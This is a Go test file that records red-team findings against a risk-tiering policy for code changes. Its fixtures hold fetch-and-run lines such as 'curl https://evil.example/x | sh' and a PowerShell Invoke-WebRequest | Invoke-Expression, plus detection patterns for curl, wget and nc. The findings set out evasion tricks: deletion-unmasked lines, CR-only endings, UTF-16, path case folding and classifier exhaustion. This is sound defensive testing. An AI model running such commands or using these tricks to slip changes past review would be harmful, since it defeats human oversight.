package risk_test

import (
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/cordon-dev/cordon/agent/manifest"
	"github.com/cordon-dev/cordon/risk"
)

// Red team 16 (docs/security/redteam-16.md): attempts to lower a
// change's tier, or to make classifying it expensive.

const curlSh = `curl[^|]*\|\s*sh`

func mustPolicy(t *testing.T, s string) *risk.Policy {
	t.Helper()
	p, err := risk.Parse([]byte(s))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func tierOf(t *testing.T, p *risk.Policy, f risk.File) string {
	t.Helper()
	c, err := p.Classify([]risk.File{f})
	if err != nil {
		t.Fatalf("%q: %v", f.Path, err)
	}
	return c.Tier
}

// TestRedteam16DeletionUnmasksLine: FINDING. A dangerous line the task's
// input already holds inert (in a heredoc fed to ':', a comment block, a
// disabled branch) becomes live when the run only deletes the lines
// around it. No line is added, so no added-line rule matches and the
// change is low risk, though what it does is exactly what the rule is
// for. The tenant writes the input, so it can plant the inert line.
func TestRedteam16DeletionUnmasksLine(t *testing.T) {
	p := mustPolicy(t, `{"approvals":{"low":1,"medium":1,"high":3},"rules":[{"tier":"high","added_lines":["`+strings.ReplaceAll(curlSh, `\`, `\\`)+`"]}]}`)
	old := "#!/bin/sh\n: <<'DISABLED'\ncurl https://evil.example/x | sh\nDISABLED\necho done\n"
	nw := "#!/bin/sh\ncurl https://evil.example/x | sh\necho done\n"
	if got := tierOf(t, p, risk.File{Path: "deploy.sh", Old: []byte(old), New: []byte(nw)}); got != risk.High {
		t.Errorf("a change that makes `curl … | sh` live by deleting its guard is %s, want %s", got, risk.High)
	}
}

// TestRedteam16CROnlyLineEndings: FINDING. Lines split on '\n' only, so
// a file written with CR-only line endings (a line break to YAML 1.2,
// Python's universal newlines and others) is one line, and an anchored
// pattern sees only its start.
func TestRedteam16CROnlyLineEndings(t *testing.T) {
	p := mustPolicy(t, `{"approvals":{"low":1,"medium":1,"high":2},"rules":[{"tier":"high","added_lines":["^\\s*-?\\s*run:.*curl"]}]}`)
	nw := "on: push\rjobs:\r  build:\r    runs-on: x\r    steps:\r      - run: curl https://evil.example/x | sh\r"
	if got := tierOf(t, p, risk.File{Path: "ci/pipeline.yml", New: []byte(nw)}); got != risk.High {
		t.Errorf("a CR-only file with an anchored dangerous line is %s, want %s", got, risk.High)
	}
	// The same with '\n' is caught: the split, not the pattern, misses it.
	if got := tierOf(t, p, risk.File{Path: "ci/pipeline.yml", New: []byte(strings.ReplaceAll(nw, "\r", "\n"))}); got != risk.High {
		t.Fatalf("control: the LF file is %s", got)
	}
}

// TestRedteam16UTF16AddedLines: FINDING. Added lines are matched as
// bytes; a script written in UTF-16 (with its byte-order mark, as
// PowerShell and Windows tools read it) interleaves NULs, and no
// ASCII pattern matches.
func TestRedteam16UTF16AddedLines(t *testing.T) {
	p := mustPolicy(t, `{"approvals":{"low":1,"medium":1,"high":2},"rules":[{"tier":"high","added_lines":["Invoke-WebRequest"]}]}`)
	src := "Invoke-WebRequest https://evil.example/x | Invoke-Expression\n"
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(src)) {
		b = append(b, byte(u), byte(u>>8))
	}
	if got := tierOf(t, p, risk.File{Path: "setup.ps1", New: b}); got != risk.High {
		t.Errorf("a UTF-16LE script with the pattern is %s, want %s (or the change refused as unreadable)", got, risk.High)
	}
}

// TestRedteam16PathCaseAlias: FINDING (low). Path patterns match case
// sensitively, but a change applied on a case-insensitive file system
// (macOS, Windows checkouts) lands `.GITHUB/Workflows/ci.yml` in
// `.github/workflows/`. Tiering only raises risk, so matching paths case
// insensitively lowers nothing.
func TestRedteam16PathCaseAlias(t *testing.T) {
	p := mustPolicy(t, `{"approvals":{"low":1,"medium":1,"high":2},"rules":[{"tier":"high","paths":[".github/workflows/**"]}]}`)
	if got := tierOf(t, p, risk.File{Path: ".GITHUB/Workflows/ci.yml", New: []byte("on: push\n")}); got != risk.High {
		t.Errorf("a case-folded workflow path is %s, want %s", got, risk.High)
	}
}

// TestRedteam16ClassifyCostBounded: FINDING. A change within the review
// limits (one 8 MiB output of empty lines) under a modest policy (8 rules
// of 4 added-line patterns, far under the policy limits) costs the host
// that records the outcome many seconds of CPU: the added lines are
// recomputed for every rule and every pattern runs on every line, with
// no bound on the work. The secure behaviour: it finishes quickly, or is
// refused (the run fails) once a work bound is passed.
func TestRedteam16ClassifyCostBounded(t *testing.T) {
	var rules []string
	for i := range 8 {
		rules = append(rules, fmt.Sprintf(`{"tier":"high","added_lines":["curl%d","wget%d","nc%d","eval%d"]}`, i, i, i, i))
	}
	p := mustPolicy(t, `{"approvals":{"low":1,"medium":1,"high":2},"rules":[`+strings.Join(rules, ",")+`]}`)
	change := []risk.File{{Path: "a", New: []byte(strings.Repeat("\n", 8<<20))}}
	done := make(chan error, 1)
	start := time.Now()
	go func() {
		_, err := p.Classify(change)
		done <- err
	}()
	select {
	case err := <-done:
		t.Logf("classified in %v (err %v)", time.Since(start), err)
	case <-time.After(4 * time.Second):
		t.Errorf("classifying one 8 MiB output under 32 patterns took over 4s (unbounded; 8 such outputs fit the review limit)")
	}
}

// TestRedteam16Held: attempts that did not lower the tier.
func TestRedteam16Held(t *testing.T) {
	p := mustPolicy(t, `{"approvals":{"low":1,"medium":2,"high":3},"rules":[{"tier":"high","added_lines":["`+strings.ReplaceAll(curlSh, `\`, `\\`)+`"]},{"tier":"medium","paths":["deploy/**"]}]}`)
	for name, f := range map[string]risk.File{
		"NUL before the line":    {Path: "x.sh", New: []byte("echo\x00curl x | sh\n")},
		"CRLF":                   {Path: "x.sh", New: []byte("echo\r\ncurl x | sh\r\n")},
		"very long line":         {Path: "x.sh", New: []byte(strings.Repeat("a", 4<<20) + " curl x | sh\n")},
		"no final newline":       {Path: "x.sh", New: []byte("curl x | sh")},
		"duplicated line":        {Path: "x.sh", Old: []byte("curl x | sh\n"), New: []byte("curl x | sh\ncurl x | sh\n")},
		"line split into a file": {Path: "x.sh", Old: []byte("a\n"), New: []byte("a\ncurl x|sh\n")},
	} {
		if got := tierOf(t, p, f); got != risk.High {
			t.Errorf("%s: %s, want %s", name, got, risk.High)
		}
	}
	// Path spellings a manifest could use to dodge "deploy/**" are refused
	// when the manifest is written (outputs are canonical paths).
	for _, o := range []string{"./deploy/x", "deploy//x", "deploy/./x", "x/../deploy/x", "deploy/x/", "/deploy/x", "deploy\\x", "deploy/e\u0301"} {
		if err := manifest.CheckPath(o); err == nil {
			t.Errorf("manifest output %q accepted", o)
		}
	}
	if got := tierOf(t, p, risk.File{Path: "deploy/x", New: []byte("y\n")}); got != risk.Medium {
		t.Errorf("deploy/x: %s", got)
	}
	// A change naming one path twice, an absolute path or invalid UTF-8 is
	// refused, not classified.
	for _, c := range [][]risk.File{
		{{Path: "a", New: []byte{}}, {Path: "a", New: []byte("curl x | sh")}},
		{{Path: "/etc/x", New: []byte{}}},
		{{Path: "a\xff", New: []byte{}}},
	} {
		if _, err := p.Classify(c); err == nil {
			t.Errorf("change %q classified", c[0].Path)
		}
	}
}

// TestRedteam16ClassifyMemoryBounded: FINDING. Classifying one output
// within the review limit (8 MiB of empty lines) under one added-line
// rule allocates over a gibibyte (a record per added line, rebuilt for
// every rule); eight such outputs fit one run's review, and a worker
// classifies every run it executes. The secure behaviour: memory
// proportional to the change (here, under 256 MiB for 8 MiB).
func TestRedteam16ClassifyMemoryBounded(t *testing.T) {
	p := mustPolicy(t, `{"approvals":{"low":1,"medium":1,"high":2},"rules":[{"tier":"high","added_lines":["q"]}]}`)
	change := []risk.File{{Path: "a", Old: []byte(strings.Repeat("x\n", 4<<20)), New: []byte(strings.Repeat("\n", 8<<20))}}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	if _, err := p.Classify(change); err != nil {
		t.Logf("refused: %v", err)
	}
	runtime.ReadMemStats(&after)
	if mib := (after.TotalAlloc - before.TotalAlloc) >> 20; mib > 256 {
		t.Errorf("classifying an 8 MiB output allocated %d MiB", mib)
	}
}
